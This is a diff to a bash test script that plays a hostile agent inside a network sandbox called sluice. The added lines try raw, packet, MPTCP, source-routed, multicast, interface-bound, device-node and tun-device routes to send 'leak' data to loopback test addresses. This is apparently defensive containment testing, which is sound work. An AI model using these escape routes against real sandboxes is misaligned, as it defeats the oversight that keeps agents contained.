@@ -1,10 +1,10 @@
 #!/bin/bash
 # A hostile agent with a shell, a compiler, the address of the database and a login of its own there. Each trick has a
 # destination of its own, 127.77.KIND.NUMBER, so that whoever looks on can tell them apart. Prints what it tried:
-#   tcp|udp|sql|file NUMBER NAME
+#   tcp|udp|kernel|sql|unix|file NUMBER NAME
 # Arguments: port of the destinations, port of the database, folder of its UNIX socket, run and state directory of sluice,
-# file of the credential, source of connect.c, pid of sluiced.
-port=$1 database=$2 sockets=$3 run=$4 state=$5 credential=$6 source=$7 daemon=$8
+# file of the credential, source of connect.c, pid and port of sluiced, a device node that everybody may open.
+port=$1 database=$2 sockets=$3 run=$4 state=$5 credential=$6 source=$7 daemon=$8 turned=$9 device=${10}
 cd "$(mktemp -d)" || exit 1
 export PGCONNECT_TIMEOUT=5 PGSSLMODE=disable
 unset PGPASSWORD
@@ -14,6 +14,7 @@ begin() { number=$((number + 1)); to=127.77.$2.$number; echo "$1 $number $3"; }
 quiet() { timeout 6 "$@" >/dev/null 2>&1 </dev/null; }
 tcp() { begin tcp 0 "$1"; }
 udp() { begin udp 1 "$1"; }
+kernel() { begin kernel 1 "$1"; }
 
 gcc -O1 -o plain "$source" && gcc -O1 -static -o static "$source" || exit 1
 printf '#include <sys/socket.h>\n#include <sys/syscall.h>\n#include <unistd.h>\nint connect(int s, const struct sockaddr *a, socklen_t n) { return syscall(SYS_connect, s, a, n); }\n' >hook.c
@@ -62,6 +63,20 @@ udp old-gate;       quiet ./plain gate "$to" "$port" &
 udp x32;            quiet ./plain x32 "$to" "$port" &
 udp raw;            quiet python3 -c "import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, 253).sendto(b'leak', ('$to', 0))" &
 udp packet;         quiet python3 -c "import socket; s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3); s.bind(('lo', 0)); s.send(b'leak' * 20)" &
+wait
+udp quic;           quiet python3 -c "import socket; s = socket.socket(type=socket.SOCK_DGRAM); s.connect(('$to', $port)); s.send(b'leak')" &
+udp no-query;       quiet python3 -c "import socket; socket.socket(type=socket.SOCK_DGRAM).sendto(b'leak', ('$to', 53))" &
+kernel mptcp;       quiet python3 -c "import socket; socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262).connect(('$to', $port))" &
+kernel interface;   quiet python3 -c "import socket; s = socket.socket(); s.setsockopt(1, 25, b'lo'); s.connect(('$to', $port))" &
+kernel source-route; quiet python3 -c "
+import socket
+s = socket.socket(); s.setsockopt(0, 4, bytes([0x83, 7, 4]) + socket.inet_aton('$to') + b'\0'); s.connect(('198.51.100.23', $port))" &
+kernel group;       quiet python3 -c "
+import socket
+socket.socket(type=socket.SOCK_DGRAM).setsockopt(0, 35, socket.inet_aton('239.77.1.1') + socket.inet_aton('$to'))" &
+kernel port;        quiet python3 -c "import socket; s = socket.socket(); s.bind(('127.0.0.2', $turned)); s.listen()" &
+kernel device;      quiet head -c 1 "$device" &
+kernel node;        quiet mknod tun c 10 200 &
 wait
 
 # Its own login, at the real address and past it.
